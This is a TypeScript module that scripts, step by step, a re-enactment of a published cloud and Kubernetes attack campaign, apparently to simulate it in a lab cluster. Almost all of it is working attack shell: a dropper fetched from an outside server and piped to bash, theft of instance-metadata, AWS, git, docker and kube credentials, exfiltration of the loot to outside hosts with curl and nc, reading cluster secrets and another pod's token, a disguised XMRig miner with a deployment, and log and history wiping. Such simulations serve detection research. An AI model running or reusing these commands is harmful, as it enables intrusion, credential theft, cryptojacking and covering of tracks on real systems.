import { IMAGES } from './images.ts'

/** A step of the attack: shell that goes into the notebook's terminal, numbered and named as in the published account. */
export interface AttackStep {
  readonly step: number
  readonly title: string
  readonly script: string
  /** How long the attacker looks at what came of it. */
  readonly pause_s: number
}

const SERVER = 'http://175.102.182.6'
const API = 'https://10.96.0.1'
/** The token stays in a file: what a command line says is recorded. */
const CALL = `curl -s -k -m 5 -H @/tmp/.x/h`
const REVIEW = (kind: string, spec: string) =>
  `${CALL} -H 'Content-Type: application/json' -X POST -d '{"kind":"${kind}","apiVersion":"authorization.k8s.io/v1","spec":${spec}}' ${API}/apis/authorization.k8s.io/v1/${kind.toLowerCase()}s >/dev/null`
/** kubectl under the name of a tool for attacks, which says that it is kubectl. */
const CLIENT = 'k() { (exec -a kubectl /tmp/.x/peirates "$@"); }'
const POOL = 'stratum+tcp://203.0.113.90:10128'
/** The first characters of the published wallet. */
const WALLET = '43Lfq18XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX'

/** Scripts and programs that the attacker's server has, beside the programs that are compiled and copied there. */
export const SERVED: Readonly<Record<string, string>> = {
  '.bin/.g/.a.sh': `#!/bin/bash
unset HISTFILE
dload() {
  exec 3<>/dev/tcp/175.102.182.6/80
  printf 'GET /%s HTTP/1.0\\r\\n\\r\\n' "$1" >&3
  while IFS= read -r line <&3 && [ "$line" != $'\\r' ]; do :; done
  cat <&3
  exec 3>&-
}
dload .bin/.a.i.sh > /tmp/.a.i.sh
chmod +x /tmp/.a.i.sh
bash /tmp/.a.i.sh
`,
  '.bin/.a.i.sh': `#!/bin/bash
mkdir -p /tmp/.x
curl -s -o /tmp/.x/netcat.deb ${SERVER}/netcat.deb
dpkg -i /tmp/.x/netcat.deb
`
}

const DEPLOYMENT = JSON.stringify({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'kube-proxy', namespace: 'shop' },
  spec: {
    replicas: 2,
    selector: { matchLabels: { app: 'kube-proxy' } },
    template: {
      metadata: { labels: { app: 'kube-proxy' } },
      spec: {
        terminationGracePeriodSeconds: 1,
        containers: [
          { name: 'kube-proxy', image: IMAGES.miner, args: ['-o', POOL, '-u', WALLET, '--donate-level', '1'] }
        ]
      }
    }
  }
})

/**
 * After "SCARLETEEL 2.0: Fargate, Kubernetes, and Crypto" (Sysdig, 2023-07-11), as far as one cluster can show it. Steps 9 and 11 are
 * in the cloud; step 10, a bot for floods, is left out.
 */
export const ATTACK: readonly AttackStep[] = [
  {
    step: 1,
    title: 'a terminal in the exposed notebook',
    script: 'id\nuname -a\nhostname\ncat /etc/passwd\nps\nls -la /root\nenv > /dev/null',
    pause_s: 12
  },
  {
    step: 2,
    title: 'scripts from the attacker’s server, the second over /dev/tcp by the shell itself',
    script: `curl -s ${SERVER}/.bin/.g/.a.sh | bash`,
    pause_s: 12
  },
  {
    step: 4,
    title: 'credentials of the instance from the metadata service',
    script: `M=http://169.254.169.254/latest
curl -s -m 3 $M/meta-data/
curl -s -m 3 $M/meta-data/iam/security-credentials/
curl -s -m 3 $M/meta-data/iam/security-credentials/notebook-node > /tmp/.x/role
curl -s -m 2 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' $M/api/token
curl -s -m 2 http://169.254.170.2/v2/credentials/`,
    pause_s: 10
  },
  {
    step: 5,
    title: 'credentials from files and environments',
    script: `find / -xdev -name 'credentials' -o -xdev -name '.git-credentials' -o -xdev -name 'id_rsa' 2>/dev/null
grep -r -l aws_access_key_id /root
cat /root/.aws/credentials /root/.aws/config > /tmp/.x/loot
cat /root/.git-credentials >> /tmp/.x/loot
cat /root/.docker/config.json >> /tmp/.x/loot
cat /root/.kube/config >> /tmp/.x/loot
cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -i -e key -e token > /tmp/.x/env`,
    pause_s: 10
  },
  {
    step: 6,
    title: 'loot to the attacker’s servers and to termbin',
    script: `tar czf /tmp/.x/loot.tgz /tmp/.x/loot /tmp/.x/env /tmp/.x/role 2>/dev/null
base64 /tmp/.x/loot.tgz > /tmp/.x/loot.b64
curl -s -X POST -d @/tmp/.x/loot.b64 ${SERVER}/in/in.php
curl -s -F file=@/tmp/.x/loot.tgz http://45.9.148.221/in/in.php
nc 5.39.93.71 9999 < /tmp/.x/loot.b64`,
    pause_s: 12
  },
  {
    step: 8,
    title:
      'the token of the notebook: what it may do, pods, secrets and namespaces of the whole cluster, and into another pod',
    script: `T=/var/run/secrets/kubernetes.io/serviceaccount
(printf 'Authorization: Bearer '; cat $T/token) > /tmp/.x/h
${REVIEW('SelfSubjectRulesReview', '{"namespace":"default"}')}
${REVIEW('SelfSubjectAccessReview', '{"resourceAttributes":{"verb":"create","resource":"pods"}}')}
${REVIEW('SelfSubjectAccessReview', '{"resourceAttributes":{"verb":"*","resource":"*"}}')}
for what in namespaces pods secrets services serviceaccounts nodes configmaps persistentvolumes; do
  ${CALL} ${API}/api/v1/$what > /tmp/.x/$what.json
done
${CALL} ${API}/apis/rbac.authorization.k8s.io/v1/clusterroles >/dev/null
${CALL} ${API}/apis/rbac.authorization.k8s.io/v1/clusterrolebindings >/dev/null`,
    pause_s: 8
  },
  {
    step: 8,
    title: 'a client of its own, under the name of a tool for attacks',
    script: `curl -s -o /tmp/.x/peirates ${SERVER}/peirates
chmod +x /tmp/.x/peirates
${CLIENT}
k auth can-i --list
k auth can-i create daemonsets -n kube-system
k get secrets -A
for name in db-password stripe-key smtp; do k -n shop get secret $name -o yaml > /tmp/.x/$name; done
k -n data-science get secret warehouse -o yaml > /tmp/.x/warehouse
k get pods -A -o wide`,
    pause_s: 8
  },
  {
    step: 8,
    title: 'into the pod of another workload, whose token is read and tried',
    script: `${CLIENT}
k -n shop exec deploy/cart -- sh -c 'id; hostname; cat /var/run/secrets/kubernetes.io/serviceaccount/token' > /tmp/.x/cart
sed -n 's/^ey/Authorization: Bearer ey/p' /tmp/.x/cart > /tmp/.x/h2
curl -s -k -m 5 -H @/tmp/.x/h2 ${API}/api/v1/namespaces/shop/secrets >/dev/null
curl -s -k -m 5 -H @/tmp/.x/h2 ${API}/api/v1/namespaces/shop/pods >/dev/null`,
    pause_s: 10
  },
  {
    step: 12,
    title: 'a miner in the notebook, under the name of the container runtime',
    script: `curl -s -o /tmp/.x/xmrig.tar.gz ${SERVER}/xmrig.tar.gz
tar xzf /tmp/.x/xmrig.tar.gz -C /tmp/.x
mkdir -p /root/.configure
cp /tmp/.x/xmrig /root/.configure/containerd
chmod +x /root/.configure/containerd
setsid /root/.configure/containerd -o ${POOL} -u ${WALLET} -p notebook --donate-level 1 </dev/null >/dev/null 2>&1 &
sleep 1`,
    pause_s: 8
  },
  {
    step: 12,
    title: 'more miners as a Deployment, after one in kube-system was refused',
    script: `${CLIENT}
k -n kube-system create -f - <<'E'
{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"kube-proxy","namespace":"kube-system"},"spec":{"selector":{"matchLabels":{"app":"kube-proxy"}},"template":{"metadata":{"labels":{"app":"kube-proxy"}},"spec":{"containers":[{"name":"kube-proxy","image":"${IMAGES.miner}"}]}}}}
E
k -n shop create -f - <<'E'
${DEPLOYMENT}
E`,
    pause_s: 15
  },
  {
    step: 7,
    title: 'traces removed: history, logs, tools, events',
    script: `${CLIENT}
k -n shop delete events --all >/dev/null
history -cw
rm -f /root/.bash_history
rm -f /var/log/syslog /var/log/jupyter.log
rm -rf /tmp/.x /tmp/.a.i.sh`,
    pause_s: 5
  }
]
